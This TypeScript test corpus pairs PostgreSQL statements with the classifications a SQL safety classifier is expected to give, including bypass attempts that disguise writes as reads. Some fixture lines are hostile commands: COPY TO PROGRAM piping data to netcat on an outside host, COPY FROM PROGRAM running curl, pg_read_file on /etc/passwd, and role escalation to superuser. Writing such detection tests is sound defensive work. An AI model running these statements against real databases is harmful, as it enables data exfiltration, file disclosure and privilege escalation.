/**
 * Statements and what the classifier must say about them, written by hand (never produced by the
 * classifier); corpus-entry.ts says how entries are compared. Three parts: the statement classes
 * below, bypass attempts (corpus-bypass-attempts.ts: statements that change something while
 * looking like a read or a session setting), and harmless statements that must keep harmless
 * kinds (corpus-harmless.ts), which keep the classifier from staying safe by gating everything.
 */
import { BYPASS_ATTEMPTS } from './corpus-bypass-attempts.ts';
import { attempt, type CorpusEntry, one } from './corpus-entry.ts';
import { HARMLESS_STATEMENTS } from './corpus-harmless.ts';

export type { BypassClass, CorpusEntry, ExpectedStatement } from './corpus-entry.ts';

const STATEMENT_CLASSES: readonly CorpusEntry[] = [
  // Plain reads, joins, subqueries.
  one('constant select', 'SELECT 1', { kinds: ['read'], commands: ['SELECT'] }),
  one('qualified table', 'SELECT id, total FROM public.orders WHERE id = 42', {
    kinds: ['read'],
    commands: ['SELECT'],
    objects: ['public.orders'],
  }),
  one('joins', 'SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id LEFT JOIN billing.invoices i USING (id)', {
    kinds: ['read'],
    commands: ['SELECT'],
    objects: ['orders', 'customers', 'billing.invoices'],
  }),
  one('subquery in WHERE', 'SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE vip)', {
    kinds: ['read'],
    commands: ['SELECT'],
    objects: ['orders', 'customers'],
  }),
  one('aggregates over a derived table', 'SELECT count(*), max(total) FROM (SELECT * FROM orders) s', {
    kinds: ['read'],
    commands: ['SELECT'],
    objects: ['orders'],
    functions: ['count', 'max'],
  }),
  one('window function', 'SELECT id, row_number() OVER (PARTITION BY customer_id ORDER BY id) FROM orders', {
    kinds: ['read'],
    commands: ['SELECT'],
    objects: ['orders'],
    functions: ['row_number'],
  }),
  one('lateral set-returning function', 'SELECT * FROM orders, LATERAL jsonb_array_elements(items) AS e', {
    kinds: ['read'],
    commands: ['SELECT'],
    objects: ['orders'],
    functions: ['jsonb_array_elements'],
  }),
  one('SQL syntax calls are not listed', 'SELECT extract(year FROM created_at), substring(name FROM 2) FROM orders', {
    kinds: ['read'],
    commands: ['SELECT'],
    objects: ['orders'],
  }),
  one('VALUES', "VALUES (1, 'a'), (2, 'b')", { kinds: ['read'], commands: ['SELECT'] }),
  one('TABLE', 'TABLE orders', { kinds: ['read'], commands: ['SELECT'], objects: ['orders'] }),
  one('quoted identifiers', 'SELECT "Total" FROM "Weird"."Name"', { kinds: ['read'], commands: ['SELECT'], objects: ['weird.name'] }),
  one('pg_catalog-qualified and plain built-ins', "SELECT pg_catalog.now(), lower('A'), coalesce(NULL, 1), current_user", {
    kinds: ['read'],
    commands: ['SELECT'],
    functions: ['pg_catalog.now', 'lower'],
  }),

  // CTEs.
  one('read-only CTE', "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT * FROM recent", {
    kinds: ['read'],
    commands: ['SELECT'],
    objects: ['orders'],
    functions: ['now'],
  }),
  one('recursive CTE names itself', 'WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 10) SELECT sum(n) FROM t', {
    kinds: ['read'],
    commands: ['SELECT'],
    functions: ['sum'],
  }),
  one(
    'a plain CTE body reads the real table of the same name',
    'WITH orders AS (SELECT * FROM orders WHERE total > 100) SELECT * FROM orders',
    {
      kinds: ['read'],
      commands: ['SELECT'],
      objects: ['orders'],
    },
  ),
  one('a qualified name is never a CTE', 'WITH t AS (SELECT 1) SELECT * FROM public.t, t', {
    kinds: ['read'],
    commands: ['SELECT'],
    objects: ['public.t'],
  }),
  attempt('cte-write', 'data-modifying CTE under a SELECT', 'WITH d AS (DELETE FROM sessions RETURNING id) SELECT count(*) FROM d', {
    kinds: ['read', 'write'],
    commands: ['SELECT', 'DELETE'],
    objects: ['sessions'],
    functions: ['count'],
    writesWithoutWhere: true,
  }),
  one(
    'data-modifying CTE under an INSERT',
    "WITH moved AS (DELETE FROM orders WHERE created_at < '2020-01-01' RETURNING *) INSERT INTO orders_archive SELECT * FROM moved",
    { kinds: ['write'], commands: ['INSERT', 'DELETE'], objects: ['orders', 'orders_archive'] },
  ),

  // INSERT, UPDATE, DELETE, MERGE.
  one('INSERT ... SELECT', 'INSERT INTO audit.log (msg) SELECT name FROM users WHERE id = 1', {
    kinds: ['write'],
    commands: ['INSERT'],
    objects: ['audit.log', 'users'],
  }),
  one('INSERT ... RETURNING', 'INSERT INTO orders (id, total) VALUES (1, 9.99) RETURNING id', {
    kinds: ['write'],
    commands: ['INSERT'],
    objects: ['orders'],
  }),
  one('upsert', "INSERT INTO counters (k, v) VALUES ('a', 1) ON CONFLICT (k) DO UPDATE SET v = counters.v + 1", {
    kinds: ['write'],
    commands: ['INSERT'],
    objects: ['counters'],
  }),
  one('UPDATE with WHERE', "UPDATE orders SET status = 'shipped' WHERE id = 7", {
    kinds: ['write'],
    commands: ['UPDATE'],
    objects: ['orders'],
  }),
  one('UPDATE without WHERE', "UPDATE orders SET status = 'void'", {
    kinds: ['write'],
    commands: ['UPDATE'],
    objects: ['orders'],
    writesWithoutWhere: true,
  }),
  one('UPDATE ... FROM', 'UPDATE orders o SET total = p.total FROM prices p WHERE p.id = o.id', {
    kinds: ['write'],
    commands: ['UPDATE'],
    objects: ['orders', 'prices'],
  }),
  one('DELETE with a parameter', 'DELETE FROM orders WHERE id = $1', { kinds: ['write'], commands: ['DELETE'], objects: ['orders'] }),
  one('DELETE without WHERE', 'DELETE FROM orders', {
    kinds: ['write'],
    commands: ['DELETE'],
    objects: ['orders'],
    writesWithoutWhere: true,
  }),
  one('DELETE WHERE true counts as no WHERE', 'DELETE FROM orders WHERE true', {
    kinds: ['write'],
    commands: ['DELETE'],
    objects: ['orders'],
    writesWithoutWhere: true,
  }),
  one('DELETE WHERE 1 = 1 counts as no WHERE', 'DELETE FROM orders WHERE 1 = 1', {
    kinds: ['write'],
    commands: ['DELETE'],
    objects: ['orders'],
    writesWithoutWhere: true,
  }),
  one('WHERE CURRENT OF is a WHERE', 'DELETE FROM orders WHERE CURRENT OF c', {
    kinds: ['write'],
    commands: ['DELETE'],
    objects: ['orders'],
  }),
  one(
    'MERGE',
    'MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty WHEN NOT MATCHED THEN INSERT VALUES (d.item, d.qty)',
    { kinds: ['write'], commands: ['MERGE'], objects: ['stock', 'deliveries'] },
  ),
  one('TRUNCATE', 'TRUNCATE orders, billing.invoices RESTART IDENTITY', {
    kinds: ['write', 'ddl'],
    commands: ['TRUNCATE TABLE'],
    objects: ['orders', 'billing.invoices'],
  }),

  // Locking reads.
  attempt('locking-and-notify', 'SELECT FOR UPDATE', 'SELECT * FROM orders WHERE id = 1 FOR UPDATE', {
    kinds: ['read', 'write'],
    commands: ['SELECT FOR UPDATE'],
    objects: ['orders'],
  }),
  attempt('locking-and-notify', 'locking subquery', 'SELECT * FROM (SELECT * FROM orders FOR SHARE) s', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    objects: ['orders'],
  }),

  // COPY.
  one('COPY FROM STDIN', 'COPY orders (id, total) FROM STDIN WITH (FORMAT csv)', {
    kinds: ['write'],
    commands: ['COPY'],
    objects: ['orders'],
  }),
  one('COPY TO STDOUT', 'COPY orders TO STDOUT', { kinds: ['read'], commands: ['COPY'], objects: ['orders'] }),
  one('COPY (query) TO STDOUT', 'COPY (SELECT id FROM orders WHERE total > 10) TO STDOUT WITH CSV HEADER', {
    kinds: ['read'],
    commands: ['COPY'],
    objects: ['orders'],
  }),
  attempt('cte-write', 'COPY (DELETE ... RETURNING) TO STDOUT', 'COPY (DELETE FROM orders RETURNING *) TO STDOUT', {
    kinds: ['read', 'write'],
    commands: ['COPY', 'DELETE'],
    objects: ['orders'],
    writesWithoutWhere: true,
  }),
  attempt('file-and-large-object', 'COPY FROM PROGRAM', "COPY orders FROM PROGRAM 'curl -s http://example.com/orders.csv'", {
    kinds: ['write', 'dangerous'],
    commands: ['COPY'],
    objects: ['orders'],
  }),
  attempt('file-and-large-object', 'COPY TO PROGRAM', "COPY orders TO PROGRAM 'nc example.com 1234'", {
    kinds: ['read', 'dangerous'],
    commands: ['COPY'],
    objects: ['orders'],
  }),
  attempt('file-and-large-object', 'COPY FROM a server file', "COPY orders FROM '/var/lib/postgresql/orders.csv'", {
    kinds: ['write', 'dangerous'],
    commands: ['COPY'],
    objects: ['orders'],
  }),
  attempt('file-and-large-object', 'COPY TO a server file', "COPY orders TO '/tmp/orders.csv'", {
    kinds: ['read', 'dangerous'],
    commands: ['COPY'],
    objects: ['orders'],
  }),

  // EXPLAIN.
  one('EXPLAIN a read', 'EXPLAIN SELECT * FROM orders', { kinds: ['read'], commands: ['EXPLAIN'], objects: ['orders'] }),
  one('EXPLAIN ANALYZE a read', 'EXPLAIN ANALYZE SELECT * FROM orders', {
    kinds: ['read'],
    commands: ['EXPLAIN', 'SELECT'],
    objects: ['orders'],
  }),
  one('EXPLAIN a write does not run it', 'EXPLAIN DELETE FROM orders', { kinds: ['read'], commands: ['EXPLAIN'], objects: ['orders'] }),
  attempt('explain-analyze', 'EXPLAIN ANALYZE a write runs it', 'EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1', {
    kinds: ['write'],
    commands: ['EXPLAIN', 'DELETE'],
    objects: ['orders'],
  }),
  attempt(
    'explain-analyze',
    'EXPLAIN (ANALYZE, BUFFERS) an UPDATE without WHERE',
    'EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0',
    {
      kinds: ['write'],
      commands: ['EXPLAIN', 'UPDATE'],
      objects: ['orders'],
      writesWithoutWhere: true,
    },
  ),
  one('EXPLAIN (ANALYZE false) a write', 'EXPLAIN (ANALYZE false) DELETE FROM orders', {
    kinds: ['read'],
    commands: ['EXPLAIN'],
    objects: ['orders'],
  }),

  // PREPARE / EXECUTE / DEALLOCATE.
  attempt('prepared-statement', 'PREPARE a write', 'PREPARE del (int) AS DELETE FROM orders WHERE id = $1', {
    kinds: ['write'],
    commands: ['PREPARE', 'DELETE'],
    objects: ['orders'],
    prepares: 'del',
  }),
  one('PREPARE a read', 'PREPARE q AS SELECT * FROM orders', {
    kinds: ['read'],
    commands: ['PREPARE', 'SELECT'],
    objects: ['orders'],
    prepares: 'q',
  }),
  attempt('prepared-statement', 'EXECUTE', 'EXECUTE del(5)', {
    kinds: ['unknown'],
    commands: ['EXECUTE'],
    executes: 'del',
    unknownReason: /session resolves/,
  }),
  attempt('prepared-statement', 'EXECUTE with a dangerous argument', 'EXECUTE q(pg_terminate_backend(42))', {
    kinds: ['dangerous', 'unknown'],
    commands: ['EXECUTE'],
    functions: ['pg_terminate_backend'],
    executes: 'q',
    unknownReason: /session resolves/,
  }),
  one('DEALLOCATE', 'DEALLOCATE del', { kinds: ['session'], commands: ['DEALLOCATE'], deallocates: 'del' }),
  one('DEALLOCATE ALL', 'DEALLOCATE ALL', { kinds: ['session'], commands: ['DEALLOCATE ALL'], deallocates: '*' }),

  // Code the classifier cannot see into, and functions it does not know.
  attempt('do-and-procedures', 'DO block', "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END $$", {
    kinds: ['write', 'dangerous'],
    commands: ['DO'],
  }),
  one('CREATE FUNCTION', 'CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$', {
    kinds: ['ddl'],
    commands: ['CREATE FUNCTION'],
  }),
  attempt('side-effect-function', 'calling a function the classifier does not know', 'SELECT wipe()', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['wipe'],
  }),
  attempt('quoting-and-case', 'a schema-qualified lookalike of a built-in is not the built-in', "SELECT public.lower('A')", {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['public.lower'],
  }),
  attempt('quoting-and-case', 'a quoted name is case-sensitive: "Lower" is not lower', 'SELECT "Lower"(name) FROM users', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    objects: ['users'],
    functions: ['lower'],
  }),
  attempt('side-effect-function', 'nextval writes', "SELECT nextval('orders_id_seq')", {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['nextval'],
  }),
  attempt('locking-and-notify', 'advisory locks write', 'SELECT pg_advisory_lock(42)', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['pg_advisory_lock'],
  }),
  one('pg_sleep is read-only', 'SELECT pg_sleep(1)', { kinds: ['read'], commands: ['SELECT'], functions: ['pg_sleep'] }),
  attempt('do-and-procedures', 'CALL', 'CALL archive_orders(2024)', {
    kinds: ['write'],
    commands: ['CALL'],
    functions: ['archive_orders'],
  }),
  attempt('side-effect-function', 'an operator that is not built in', 'SELECT 1 === 2', { kinds: ['read', 'write'], commands: ['SELECT'] }),
  one('CREATE FUNCTION in an untrusted language', "CREATE FUNCTION sh(cmd text) RETURNS text LANGUAGE plpython3u AS 'import os'", {
    kinds: ['ddl', 'dangerous'],
    commands: ['CREATE FUNCTION'],
  }),
  one('SECURITY DEFINER function', 'CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$', {
    kinds: ['ddl', 'privilege'],
    commands: ['CREATE FUNCTION'],
  }),
  one('a view over an unknown function', 'CREATE VIEW v AS SELECT wipe() FROM orders', {
    kinds: ['write', 'ddl'],
    commands: ['CREATE VIEW'],
    objects: ['v', 'orders'],
    functions: ['wipe'],
  }),

  // SELECT INTO, CREATE TABLE AS.
  one('SELECT INTO', 'SELECT * INTO orders_copy FROM orders', {
    kinds: ['write', 'ddl'],
    commands: ['SELECT INTO'],
    objects: ['orders_copy', 'orders'],
  }),
  one('CREATE TABLE AS', 'CREATE TABLE big_orders AS SELECT * FROM orders WHERE total > 1000', {
    kinds: ['write', 'ddl'],
    commands: ['CREATE TABLE AS'],
    objects: ['big_orders', 'orders'],
  }),
  one('CREATE TABLE AS ... WITH NO DATA', 'CREATE TABLE empty_orders AS SELECT * FROM orders WITH NO DATA', {
    kinds: ['ddl'],
    commands: ['CREATE TABLE AS'],
    objects: ['empty_orders', 'orders'],
  }),
  one('CREATE MATERIALIZED VIEW', 'CREATE MATERIALIZED VIEW daily AS SELECT count(*) FROM orders', {
    kinds: ['write', 'ddl'],
    commands: ['CREATE MATERIALIZED VIEW'],
    objects: ['daily', 'orders'],
    functions: ['count'],
  }),
  one('REFRESH MATERIALIZED VIEW', 'REFRESH MATERIALIZED VIEW daily', {
    kinds: ['write'],
    commands: ['REFRESH MATERIALIZED VIEW'],
    objects: ['daily'],
  }),

  // DDL.
  one(
    'CREATE TABLE',
    "CREATE TABLE IF NOT EXISTS app.notes (id bigint PRIMARY KEY, body text DEFAULT '', created timestamptz DEFAULT now(), owner int REFERENCES users (id))",
    { kinds: ['ddl'], commands: ['CREATE TABLE'], objects: ['app.notes', 'users'], functions: ['now'] },
  ),
  one('CREATE TABLE with a sequence default', "CREATE TABLE t (id bigint DEFAULT nextval('t_seq'))", {
    kinds: ['write', 'ddl'],
    commands: ['CREATE TABLE'],
    objects: ['t'],
    functions: ['nextval'],
  }),
  one('CREATE TEMP TABLE', 'CREATE TEMP TABLE scratch (x int)', { kinds: ['ddl'], commands: ['CREATE TABLE'], objects: ['scratch'] }),
  one('ALTER TABLE ADD COLUMN', 'ALTER TABLE orders ADD COLUMN note text', {
    kinds: ['ddl'],
    commands: ['ALTER TABLE'],
    objects: ['orders'],
  }),
  one('ALTER TABLE OWNER', 'ALTER TABLE orders OWNER TO mallory', {
    kinds: ['ddl', 'privilege'],
    commands: ['ALTER TABLE'],
    objects: ['orders'],
  }),
  one('ALTER TABLE DISABLE ROW LEVEL SECURITY', 'ALTER TABLE orders DISABLE ROW LEVEL SECURITY', {
    kinds: ['ddl', 'privilege'],
    commands: ['ALTER TABLE'],
    objects: ['orders'],
  }),
  one('ALTER TABLE RENAME', 'ALTER TABLE orders RENAME TO old_orders', { kinds: ['ddl'], commands: ['ALTER TABLE'], objects: ['orders'] }),
  one('ALTER TABLE RENAME COLUMN', 'ALTER TABLE app.orders RENAME COLUMN total TO amount', {
    kinds: ['ddl'],
    commands: ['ALTER TABLE'],
    objects: ['app.orders'],
  }),
  one('DROP TABLE', 'DROP TABLE billing.invoices, orders CASCADE', {
    kinds: ['ddl'],
    commands: ['DROP TABLE'],
    objects: ['billing.invoices', 'orders'],
  }),
  one('CREATE INDEX', 'CREATE INDEX CONCURRENTLY orders_email ON orders (lower(email))', {
    kinds: ['ddl'],
    commands: ['CREATE INDEX'],
    objects: ['orders'],
    functions: ['lower'],
  }),
  one('DROP INDEX', 'DROP INDEX public.orders_email', { kinds: ['ddl'], commands: ['DROP INDEX'], objects: ['public.orders_email'] }),
  one('CREATE VIEW', 'CREATE OR REPLACE VIEW big AS SELECT * FROM orders WHERE total > 100', {
    kinds: ['ddl'],
    commands: ['CREATE VIEW'],
    objects: ['big', 'orders'],
  }),
  one('DROP VIEW', 'DROP VIEW IF EXISTS big', { kinds: ['ddl'], commands: ['DROP VIEW'], objects: ['big'] }),
  one('CREATE SCHEMA', 'CREATE SCHEMA reporting', { kinds: ['ddl'], commands: ['CREATE SCHEMA'] }),
  one('CREATE SCHEMA with elements', 'CREATE SCHEMA s CREATE TABLE a (id int) CREATE VIEW v AS SELECT 1', {
    kinds: ['ddl'],
    commands: ['CREATE SCHEMA', 'CREATE TABLE', 'CREATE VIEW'],
    objects: ['a', 'v'],
  }),
  one('DROP SCHEMA', 'DROP SCHEMA reporting CASCADE', { kinds: ['ddl'], commands: ['DROP SCHEMA'] }),
  one('COMMENT ON COLUMN', "COMMENT ON COLUMN billing.invoices.total IS 'gross'", {
    kinds: ['ddl'],
    commands: ['COMMENT'],
    objects: ['billing.invoices'],
  }),
  one('CREATE TRIGGER', 'CREATE TRIGGER audit BEFORE UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION audit_row()', {
    kinds: ['ddl'],
    commands: ['CREATE TRIGGER'],
    objects: ['orders'],
  }),
  one('CREATE EXTENSION', 'CREATE EXTENSION IF NOT EXISTS dblink', { kinds: ['ddl', 'admin'], commands: ['CREATE EXTENSION'] }),

  // Privileges.
  one('GRANT on tables', 'GRANT SELECT ON orders, public.items TO analyst', {
    kinds: ['privilege'],
    commands: ['GRANT'],
    objects: ['orders', 'public.items'],
  }),
  one('REVOKE on a schema', 'REVOKE ALL ON ALL TABLES IN SCHEMA public FROM PUBLIC', { kinds: ['privilege'], commands: ['REVOKE'] }),
  one('GRANT a role', 'GRANT admin TO agent', { kinds: ['privilege'], commands: ['GRANT ROLE'] }),
  one('CREATE ROLE', "CREATE ROLE agent LOGIN PASSWORD 'secret'", { kinds: ['privilege'], commands: ['CREATE ROLE'] }),
  one('CREATE USER is CREATE ROLE', 'CREATE USER bot', { kinds: ['privilege'], commands: ['CREATE ROLE'] }),
  one('ALTER ROLE', 'ALTER ROLE agent SUPERUSER', { kinds: ['privilege'], commands: ['ALTER ROLE'] }),
  one('DROP ROLE', 'DROP ROLE agent', { kinds: ['privilege'], commands: ['DROP ROLE'] }),
  one('ALTER DEFAULT PRIVILEGES', 'ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO analyst', {
    kinds: ['privilege'],
    commands: ['ALTER DEFAULT PRIVILEGES'],
  }),
  one('REASSIGN OWNED', 'REASSIGN OWNED BY old_admin TO new_admin', { kinds: ['ddl', 'privilege'], commands: ['REASSIGN OWNED'] }),
  attempt('privilege-in-session', 'SET ROLE', 'SET ROLE admin', { kinds: ['privilege', 'session'], commands: ['SET'] }),
  attempt('privilege-in-session', 'RESET ROLE', 'RESET ROLE', { kinds: ['privilege', 'session'], commands: ['RESET'] }),
  attempt('privilege-in-session', 'SET SESSION AUTHORIZATION', 'SET SESSION AUTHORIZATION postgres', {
    kinds: ['privilege', 'session'],
    commands: ['SET'],
  }),
  attempt('privilege-in-session', 'set_config of role', "SELECT set_config('role', 'admin', false)", {
    kinds: ['read', 'privilege', 'session'],
    commands: ['SELECT'],
    functions: ['set_config'],
  }),
  attempt('privilege-in-session', 'set_config of search_path', "SELECT pg_catalog.set_config('search_path', '', false)", {
    kinds: ['read', 'privilege', 'session'],
    commands: ['SELECT'],
    functions: ['pg_catalog.set_config'],
  }),

  // Administration.
  attempt('maintenance', 'ALTER SYSTEM', 'ALTER SYSTEM SET max_connections = 500', {
    kinds: ['admin', 'dangerous'],
    commands: ['ALTER SYSTEM'],
  }),
  attempt('maintenance', 'VACUUM', 'VACUUM (FULL, ANALYZE) orders', { kinds: ['admin'], commands: ['VACUUM'], objects: ['orders'] }),
  attempt('maintenance', 'ANALYZE', 'ANALYZE billing.invoices', { kinds: ['admin'], commands: ['ANALYZE'], objects: ['billing.invoices'] }),
  attempt('maintenance', 'REINDEX', 'REINDEX TABLE orders', { kinds: ['admin'], commands: ['REINDEX'], objects: ['orders'] }),
  attempt('maintenance', 'CHECKPOINT', 'CHECKPOINT', { kinds: ['admin'], commands: ['CHECKPOINT'] }),
  attempt('maintenance', 'LOAD', "LOAD 'auto_explain'", { kinds: ['admin', 'dangerous'], commands: ['LOAD'] }),

  // Transactions.
  one('BEGIN', 'BEGIN', { kinds: ['transaction'], commands: ['BEGIN'] }),
  one('START TRANSACTION', 'START TRANSACTION ISOLATION LEVEL SERIALIZABLE', { kinds: ['transaction'], commands: ['START TRANSACTION'] }),
  one('COMMIT', 'COMMIT', { kinds: ['transaction'], commands: ['COMMIT'] }),
  one('ROLLBACK', 'ROLLBACK', { kinds: ['transaction'], commands: ['ROLLBACK'] }),
  one('SAVEPOINT', 'SAVEPOINT before_fix', { kinds: ['transaction'], commands: ['SAVEPOINT'] }),
  one('RELEASE', 'RELEASE SAVEPOINT before_fix', { kinds: ['transaction'], commands: ['RELEASE'] }),
  one('ROLLBACK TO', 'ROLLBACK TO SAVEPOINT before_fix', { kinds: ['transaction'], commands: ['ROLLBACK'] }),
  attempt('maintenance', 'PREPARE TRANSACTION', "PREPARE TRANSACTION 'tx1'", {
    kinds: ['transaction', 'admin'],
    commands: ['PREPARE TRANSACTION'],
  }),
  one('SET TRANSACTION', 'SET TRANSACTION READ ONLY', { kinds: ['transaction'], commands: ['SET'] }),
  attempt('locking-and-notify', 'LOCK', 'LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', {
    kinds: ['write'],
    commands: ['LOCK TABLE'],
    objects: ['orders'],
  }),

  // Session.
  attempt('privilege-in-session', 'SET search_path', 'SET search_path TO app, public', {
    kinds: ['privilege', 'session'],
    commands: ['SET'],
  }),
  one('SET LOCAL', "SET LOCAL statement_timeout = '5s'", { kinds: ['session'], commands: ['SET'] }),
  one('SHOW', 'SHOW search_path', { kinds: ['read'], commands: ['SHOW'] }),
  one('RESET', 'RESET statement_timeout', { kinds: ['session'], commands: ['RESET'] }),
  attempt('privilege-in-session', 'RESET ALL resets search_path', 'RESET ALL', { kinds: ['privilege', 'session'], commands: ['RESET'] }),
  attempt('privilege-in-session', 'DISCARD ALL', 'DISCARD ALL', {
    kinds: ['privilege', 'session'],
    commands: ['DISCARD ALL'],
    deallocates: '*',
  }),
  one('DISCARD PLANS', 'DISCARD PLANS', { kinds: ['session'], commands: ['DISCARD PLANS'] }),
  one('LISTEN', 'LISTEN jobs', { kinds: ['session'], commands: ['LISTEN'] }),
  attempt('locking-and-notify', 'NOTIFY', "NOTIFY jobs, 'run'", { kinds: ['write', 'session'], commands: ['NOTIFY'] }),
  attempt('locking-and-notify', 'DECLARE a locking cursor', 'DECLARE c CURSOR FOR SELECT * FROM orders FOR UPDATE', {
    kinds: ['read', 'write'],
    commands: ['DECLARE CURSOR'],
    objects: ['orders'],
  }),
  one('FETCH', 'FETCH 10 FROM c', { kinds: ['read'], commands: ['FETCH'] }),
  one('CLOSE', 'CLOSE c', { kinds: ['session'], commands: ['CLOSE CURSOR'] }),

  // Dangerous functions.
  attempt('side-effect-function', 'pg_terminate_backend', "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'", {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    objects: ['pg_stat_activity'],
    functions: ['pg_terminate_backend'],
  }),
  attempt('file-and-large-object', 'lo_export', "SELECT lo_export(16409, '/tmp/dump')", {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    functions: ['lo_export'],
  }),
  attempt('file-and-large-object', 'pg_read_file', "SELECT pg_read_file('/etc/passwd')", {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    functions: ['pg_read_file'],
  }),
  attempt('side-effect-function', 'dblink', "SELECT * FROM dblink('host=example.com', 'SELECT 1') AS t(x int)", {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    functions: ['dblink'],
  }),
  attempt('side-effect-function', 'dblink_exec in its extension schema', "SELECT ext.dblink_exec('conn', 'DROP TABLE orders')", {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    functions: ['ext.dblink_exec'],
  }),
  attempt('side-effect-function', 'a table read through a string', "SELECT query_to_xml('SELECT * FROM secrets', true, false, '')", {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    functions: ['query_to_xml'],
  }),

  // What does not parse, and what is empty.
  one('unparseable', 'SELEC * FROM orders', { kinds: ['unknown'], commands: [], unknownReason: /syntax error at or near "SELEC"/ }),
  { name: 'empty', sql: '', statements: [] },
  { name: 'whitespace only', sql: ' \n\t ', statements: [] },
  { name: 'comments only', sql: '-- just a comment\n/* and another */', statements: [] },

  // Several statements in one text.
  {
    name: 'two statements',
    bypass: 'multi-statement',
    sql: 'SELECT 1; DELETE FROM orders',
    statements: [
      { text: 'SELECT 1', kinds: ['read'], commands: ['SELECT'] },
      { text: 'DELETE FROM orders', kinds: ['write'], commands: ['DELETE'], objects: ['orders'], writesWithoutWhere: true },
    ],
  },
  {
    name: 'multibyte text before the second statement',
    sql: "SELECT 'héllo €';\n  UPDATE t SET a = 'ü' WHERE id = 1;",
    statements: [
      { text: "SELECT 'héllo €'", kinds: ['read'], commands: ['SELECT'] },
      { text: "UPDATE t SET a = 'ü' WHERE id = 1", kinds: ['write'], commands: ['UPDATE'], objects: ['t'] },
    ],
  },
  {
    name: 'a transaction in one Query message',
    bypass: 'multi-statement',
    sql: 'BEGIN; SET ROLE admin; DROP TABLE orders; COMMIT',
    statements: [
      { text: 'BEGIN', kinds: ['transaction'], commands: ['BEGIN'] },
      { text: 'SET ROLE admin', kinds: ['privilege', 'session'], commands: ['SET'] },
      { text: 'DROP TABLE orders', kinds: ['ddl'], commands: ['DROP TABLE'], objects: ['orders'] },
      { text: 'COMMIT', kinds: ['transaction'], commands: ['COMMIT'] },
    ],
  },
  {
    name: 'one bad statement makes the whole text unknown, as the server rejects it whole',
    sql: 'SELECT 1; SELEC 2',
    statements: [{ text: 'SELECT 1; SELEC 2', kinds: ['unknown'], commands: [], unknownReason: /syntax error/ }],
  },
];

export const CORPUS: readonly CorpusEntry[] = [...STATEMENT_CLASSES, ...BYPASS_ATTEMPTS, ...HARMLESS_STATEMENTS];
